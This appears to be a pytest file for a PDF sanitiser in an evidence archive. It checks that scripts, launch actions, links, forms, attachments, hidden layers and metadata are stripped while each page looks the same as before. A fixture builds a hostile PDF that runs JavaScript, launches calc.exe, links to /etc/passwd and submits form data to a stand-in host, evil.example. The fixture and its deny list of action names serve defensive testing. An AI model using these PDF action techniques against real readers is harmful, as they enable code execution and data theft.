"""Pages of a foreign PDF lose what acts and what says more than they show, and never a mark that is seen."""

from __future__ import annotations

import io
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pikepdf
import pytest
from pikepdf import Array, Dictionary, Name, Stream, String
from PIL import Image

from evidence_vault.records.pages import STAMP_BAND
from tests.helpers import pdfs
from tests.helpers.drawn import ALIKE, difference, drawn, worst
from tests.helpers.parts import inflated, made, names_in, photo

CANARY = "K-7 of Oral Street 14"
ACTS = {"/JavaScript", "/JS", "/Launch", "/URI", "/SubmitForm", "/AA", "/OpenAction", "/EmbeddedFiles", "/EF", "/XFA"}
ACTS |= {
    "/RichMedia",
    "/Movie",
    "/Sound",
    "/Screen",
    "/GoToR",
    "/GoToE",
    "/ImportData",
    "/Annots",
    "/AcroForm",
    "/Names",
}
SAYS = {"/Metadata", "/PieceInfo", "/Thumb", "/Author", "/Info", "/StructTreeRoot", "/OCProperties", "/Producer"}


def _looks(pdf: pikepdf.Pdf, colour: str = "0 1 0", side: int = 50) -> pikepdf.Object:
    form = Stream(pdf, f"{colour} rg 0 0 {side} {side} re f".encode())
    form.Type, form.Subtype, form.BBox = Name.XObject, Name.Form, Array([0, 0, side, side])
    return pdf.make_indirect(form)


def _note(pdf: pikepdf.Pdf, subtype: str, rect: list[int], **more: Any) -> pikepdf.Object:  # noqa: ANN401 entries of any kind
    return pdf.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name(subtype), Rect=Array(rect), F=4, **more))


def hostile() -> bytes:
    """A page with a red field, and everything that a PDF can do."""
    pdf = pdfs.document(b"1 0 0 rg 100 500 300 200 re f")
    script = Dictionary(S=Name.JavaScript, JS=String("app.alert('evil')"))
    launch = Dictionary(S=Name.Launch, F=String("C:\\calc.exe"))
    local = Dictionary(S=Name.URI, URI=String("file:///etc/passwd"))
    submit = Dictionary(S=Name.SubmitForm, F=String("https://evil.example/collect"), Next=script)
    attached = pikepdf.AttachedFileSpec(pdf, CANARY.encode(), filename="evil.exe")
    pdf.attachments["evil.exe"] = attached
    root, page = pdf.Root, pdf.pages[0].obj
    root.OpenAction = pdf.make_indirect(script)
    root.AA = Dictionary(WC=launch)
    root.Names.JavaScript = Dictionary(Names=Array([String("x"), script]))
    page.AA = Dictionary(O=submit)
    page.Thumb = Stream(pdf, CANARY.encode())
    page.PieceInfo = Dictionary(X=Dictionary(Private=String(CANARY)))
    page.Metadata = Stream(pdf, CANARY.encode())
    field = _note(pdf, "/Widget", [100, 300, 150, 350], FT=Name.Tx, T=String("f"), V=String("x"), A=submit)
    field.AP = Dictionary(N=_looks(pdf))
    page.Annots = Array(
        [
            _note(pdf, "/Link", [0, 0, 90, 90], A=local),
            _note(pdf, "/Link", [0, 90, 90, 180], A=launch),
            _note(pdf, "/Screen", [300, 0, 350, 50], A=Dictionary(S=Name.Rendition)),
            _note(pdf, "/RichMedia", [300, 90, 350, 140]),
            _note(pdf, "/FileAttachment", [400, 0, 420, 20], FS=attached.obj),
            _note(pdf, "/Movie", [400, 90, 420, 99]),
            field,
        ]
    )
    root.AcroForm = Dictionary(Fields=Array([field]), XFA=Stream(pdf, b"<xdp/>"))
    pdf.docinfo["/Author"] = CANARY
    with pdf.open_metadata() as words:
        words["dc:creator"] = [CANARY]
    return pdfs.saved(pdf)


def test_nothing_that_acts_or_says_more_is_in_the_part_and_what_was_left_out_is_named() -> None:
    data = hostile()
    assert names_in(data) >= ACTS - {"/GoToR", "/GoToE", "/ImportData", "/Sound"}, "the control: it was all there"
    assert CANARY.encode() in inflated(data)
    found, pdf = made(data)
    assert not names_in(pdf) & (ACTS | SAYS)
    for word in (CANARY, "evil", "calc", "passwd"):
        assert word.encode() not in inflated(pdf)
        assert word.encode("utf-16-be") not in inflated(pdf)
    told = {note.removeprefix("removed.") for note in found.notes if note.startswith("removed.")}
    assert told >= {"javascript", "launch", "links", "submit", "attachments", "media", "xfa", "actions", "metadata"}


def test_the_filled_field_and_the_page_are_seen_as_before() -> None:
    data = hostile()
    _, pdf = made(data)
    (before,), (after,) = drawn(data), drawn(pdf)
    assert before.getpixel((125, 842 - 325)) == after.getpixel((125, 842 - 325)) == (0, 255, 0)
    assert after.getpixel((200, 842 - 600)) == (255, 0, 0)


def _marked() -> dict[str, pikepdf.Pdf]:
    words = b"BT /F 24 Tf 60 700 Td (Evidence) Tj ET 0 0 1 rg 60 600 100 40 re f"
    pages = {}
    remarks: dict[str, dict[str, Any]] = {
        "highlight": {"Subtype": "/Highlight", "QuadPoints": Array([60, 640, 160, 640, 60, 600, 160, 600])},
        "square": {"Subtype": "/Square"},
        "circle": {"Subtype": "/Circle", "IC": Array([1, 0, 0])},
        "ink": {"Subtype": "/Ink", "InkList": Array([Array([70, 610, 150, 630, 90, 690])])},
        "strikeout": {"Subtype": "/StrikeOut", "QuadPoints": Array([60, 640, 160, 640, 60, 600, 160, 600])},
    }
    for name, more in remarks.items():
        pdf = pdfs.document(words)
        subtype = str(more.pop("Subtype"))
        pdf.pages[0].Annots = Array([_note(pdf, subtype, [60, 600, 160, 700], C=Array([1, 0.8, 0]), **more)])
        pages[name] = pdf
    field = pdfs.document(words)
    widget = _note(field, "/Widget", [200, 600, 400, 630], FT=Name.Tx, T=String("f"), V=String("filled in"))
    widget.DA = String("/Helv 12 Tf 0 g")
    field.pages[0].Annots = Array([widget])
    font = Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica)
    field.Root.AcroForm = Dictionary(
        Fields=Array([widget]), NeedAppearances=True, DA=widget.DA, DR=Dictionary(Font=Dictionary(Helv=font))
    )
    pages["field without a look"] = field
    return pages


@pytest.mark.parametrize("name", list(_marked()))
def test_remarks_and_fields_that_bring_no_drawing_stay_visible(name: str) -> None:
    data = pdfs.saved(_marked()[name])
    bare = pikepdf.open(io.BytesIO(data))
    del bare.pages[0].obj["/Annots"]
    (before,), (without,), (after,) = drawn(data), drawn(pdfs.saved(bare)), drawn(made(data)[1])
    assert worst(before, without) > 60, "the control: it is seen, and would be missed"
    assert worst(before, after) < 60
    assert difference(before, after) < ALIKE


@pytest.mark.parametrize("turn", [0, 90, 180, 270])
def test_a_page_that_is_turned_and_cropped_comes_out_upright_at_its_corner(turn: int) -> None:
    pdf = pdfs.document(b"1 0 0 rg 150 250 90 40 re f 0 0 1 rg 300 500 40 90 re f")
    page = pdf.pages[0].obj
    page.MediaBox, page.CropBox, page.Rotate = Array([20, 30, 620, 830]), Array([100, 200, 400, 700]), turn
    data = pdfs.saved(pdf)
    _, part = made(data)
    with pikepdf.open(io.BytesIO(part)) as document:
        box = [float(number) for number in document.pages[0].mediabox]
        assert "/Rotate" not in document.pages[0].obj
        assert "/CropBox" not in document.pages[0].obj
    assert box == [0, 0, *((300, 500) if turn in {0, 180} else (500, 300))]
    assert worst(drawn(data)[0], drawn(part)[0]) < 60
    other = pikepdf.open(io.BytesIO(data))
    other.pages[0].obj.Rotate = turn + 180
    assert worst(drawn(pdfs.saved(other))[0], drawn(part)[0]) > 60, "the control: turned about, it looks another way"


def test_a_page_that_counts_in_larger_units_keeps_its_size() -> None:
    pdf = pdfs.filled("1 0 0", size=(300, 400))
    pdf.pages[0].obj.UserUnit = 2
    with pikepdf.open(io.BytesIO(made(pdfs.saved(pdf))[1])) as document:
        assert [float(number) for number in document.pages[0].mediabox] == [0, 0, 600, 800 + STAMP_BAND]


def test_a_page_with_ink_at_its_lower_edge_grows_there_and_others_do_not() -> None:
    clear, full = pdfs.document(b"0 g 0 100 595 700 re f"), pdfs.document(b"0 g 0 3 595 9 re f")
    found, _ = made(pdfs.saved(clear))
    assert "enlarged" not in found.notes
    found, pdf = made(pdfs.saved(full))
    assert "enlarged" in found.notes
    (sheet,) = drawn(pdf)
    assert sheet.height == 842 + STAMP_BAND
    assert sheet.getpixel((300, sheet.height - 5)) == (255, 255, 255)
    assert sheet.getpixel((300, sheet.height - 5 - int(STAMP_BAND))) == (0, 0, 0)


def _layered(off: bool) -> bytes:
    pdf = pdfs.document(b"/OC /Layer BDC 1 0 0 rg 100 600 100 100 re f EMC 0 0 1 rg 300 600 100 100 re f /Form Do")
    group = pdf.make_indirect(Dictionary(Type=Name.OCG, Name=String("draft")))
    form = _looks(pdf, side=80)
    form.OC = group
    pdf.pages[0].obj.Resources = Dictionary(Properties=Dictionary(Layer=group), XObject=Dictionary(Form=form))
    settings = Dictionary(OFF=Array([group])) if off else Dictionary()
    pdf.Root.OCProperties = Dictionary(OCGs=Array([group]), D=settings)
    return pdfs.saved(pdf)


def test_what_is_on_a_layer_that_is_off_is_gone_and_all_else_stays() -> None:
    found, pdf = made(_layered(off=False))
    assert "removed.hidden_layers" not in found.notes
    (sheet,) = drawn(pdf)
    assert [sheet.getpixel(at) for at in ((150, 192), (350, 192), (40, 802))] == [(255, 0, 0), (0, 0, 255), (0, 255, 0)]
    found, pdf = made(_layered(off=True))
    assert "removed.hidden_layers" in found.notes
    (sheet,) = drawn(pdf)
    white = (255, 255, 255)
    assert [sheet.getpixel(at) for at in ((150, 192), (350, 192), (40, 802))] == [white, (0, 0, 255), white]
    assert b"100 600 100 100" not in inflated(pdf)
    assert b"0 1 0 rg" not in inflated(pdf)


def _form(pdf: pikepdf.Pdf) -> Dictionary:
    form = Stream(pdf, HIDDEN)
    form.Type, form.Subtype, form.BBox = Name.XObject, Name.Form, Array([0, 0, 600, 800])
    return Dictionary(XObject=Dictionary(F=form))


def _pattern(pdf: pikepdf.Pdf) -> Dictionary:
    tile = Stream(pdf, HIDDEN)
    tile.PatternType, tile.PaintType, tile.TilingType, tile.XStep, tile.YStep = 1, 1, 1, 600, 800
    tile.BBox, tile.Resources = Array([0, 0, 600, 800]), Dictionary()
    return Dictionary(Pattern=Dictionary(P=tile))


def _glyph(pdf: pikepdf.Pdf) -> Dictionary:
    glyph = Stream(pdf, b"600 0 d0 " + HIDDEN)
    font = Dictionary(Type=Name.Font, Subtype=Name.Type3, FontBBox=Array([0, 0, 600, 800]), FirstChar=97, LastChar=97)
    font.FontMatrix, font.Widths, font.CharProcs = Array([1, 0, 0, 1, 0, 0]), Array([600]), Dictionary(a=glyph)
    font.Encoding = Dictionary(Differences=Array([97, Name("/a")]))
    return Dictionary(Font=Dictionary(T=font))


HIDDEN = b"/OC /Layer BDC 1 0 0 rg 100 600 100 100 re f EMC 0 0 1 rg 300 600 100 100 re f"


@pytest.mark.parametrize(
    ("draws", "made_of"),
    [
        (b"/F Do", _form),
        (b"/Pattern cs /P scn 0 0 600 800 re f", _pattern),
        (b"BT /T 1 Tf (a) Tj ET", _glyph),
    ],
)
def test_layers_that_are_named_around_a_drawing_count_in_it(
    draws: bytes, made_of: Callable[[pikepdf.Pdf], Dictionary]
) -> None:
    pdf = pdfs.document(draws)
    group = pdf.make_indirect(Dictionary(Type=Name.OCG, Name=String("draft")))
    resources = made_of(pdf)
    resources.Properties = Dictionary(Layer=group)
    pdf.pages[0].obj.Resources = resources
    pdf.Root.OCProperties = Dictionary(OCGs=Array([group]), D=Dictionary(OFF=Array([group])))
    found, part = made(pdfs.saved(pdf))
    assert "removed.hidden_layers" in found.notes
    (sheet,) = drawn(part)
    assert [sheet.getpixel(at) for at in ((150, 192), (350, 192))] == [(255, 255, 255), (0, 0, 255)]
    assert b"100 600 100 100" not in inflated(part)


def test_a_photo_within_a_page_loses_its_position_and_not_a_pixel() -> None:
    exif = Image.Exif()
    exif[0x010E] = CANARY
    jpeg = photo(exif=exif)
    pdf = pdfs.document(b"q 240 0 0 160 100 500 cm /P Do Q")
    image = Stream(pdf, jpeg)
    image.Type, image.Subtype, image.Width, image.Height = Name.XObject, Name.Image, 120, 80
    image.ColorSpace, image.BitsPerComponent, image.Filter = Name.DeviceRGB, 8, Name.DCTDecode
    pdf.pages[0].obj.Resources = Dictionary(XObject=Dictionary(P=image))
    data = pdfs.saved(pdf)
    assert CANARY.encode() in inflated(data)
    found, part = made(data)
    assert "removed.metadata" in found.notes
    assert CANARY.encode() not in inflated(part)
    assert worst(drawn(data)[0], drawn(part)[0]) == 0


def test_remarks_are_told_with_page_and_author() -> None:
    pdf = pdfs.filled("1 1 1", "1 1 1")
    said = _note(pdf, "/Text", [9, 9, 29, 29], Contents=String("Не согласен"), T=String("K-3"))
    pdf.pages[1].Annots = Array([said, _note(pdf, "/Square", [40, 40, 60, 60], T=String("K-4"))])
    found, _ = made(pdfs.saved(pdf))
    assert found.told is not None
    told = [(one.at, one.sender, one.text) for one in found.told.messages]
    assert told == [("2", "K-3", "Не согласен"), ("2", "K-4", "[Square]")]
    assert "remarks" in found.notes


@pytest.mark.parametrize(
    ("data", "result"),
    [
        (pdfs.saved(pdfs.filled("1 0 0"), pikepdf.Encryption(owner="a", user="b")), "locked"),
        (b"%PDF-1.4\n%%EOF\n", "unreadable"),
        (b"%PDF-1.7\n" + bytes(500), "unreadable"),
        (pdfs.saved(pikepdf.new()), "unreadable"),
        (pdfs.saved(pdfs.filled("1 0 0"), pikepdf.Encryption(owner="a", user="")), "ok"),
    ],
)
def test_what_opens_with_a_password_only_or_not_at_all_is_said(data: bytes, result: str) -> None:
    assert made(data)[0].result == result


def test_only_a_filled_page_is_called_searchable(shared: Path) -> None:
    assert "no_text" in made(pdfs.saved(pdfs.filled("1 0 0")))[0].notes
    assert "no_text" not in made(next((shared / "corpus" / "pdf").glob("3cdc19d6-*")).read_bytes())[0].notes


_SAMPLE = 6


def _alike(paths: list[Path], program: Callable[[str], str], folder: Path) -> int:
    """Compare every page of every part with its original; how many parts there were."""
    import subprocess

    shown = 0
    for path in paths:
        data = path.read_bytes()
        found, pdf = made(data, ".pdf")
        assert found.result in {"ok", "locked", "unreadable"}, path.name
        if found.result != "ok":
            continue
        shown += 1
        assert not names_in(pdf) & (ACTS | SAYS), path.name
        (folder / "part.pdf").write_bytes(pdf)
        checked = subprocess.run([program("qpdf"), "--check", folder / "part.pdf"], capture_output=True, check=False)
        assert checked.returncode == 0, (path.name, checked.stderr)
        for before, after in zip(drawn(data), drawn(pdf), strict=True):
            if before.width == after.width:  # a page smaller than a stamp stands in the middle of a larger one
                assert difference(before, after) < 6, path.name
                assert worst(before, after) < 100, path.name
    return shown


def test_pages_of_real_files_look_as_before(shared: Path, program: Callable[[str], str], tmp_path: Path) -> None:
    paths = sorted((shared / "corpus" / "pdf").glob("*.pdf"))[::_SAMPLE]
    assert _alike(paths, program, tmp_path) > len(paths) * 0.8


@pytest.mark.thorough
def test_pages_of_all_real_files_look_as_before(shared: Path, program: Callable[[str], str], tmp_path: Path) -> None:
    paths = sorted((shared / "corpus" / "pdf").glob("*.pdf"))
    assert _alike(paths, program, tmp_path) > len(paths) * 0.9
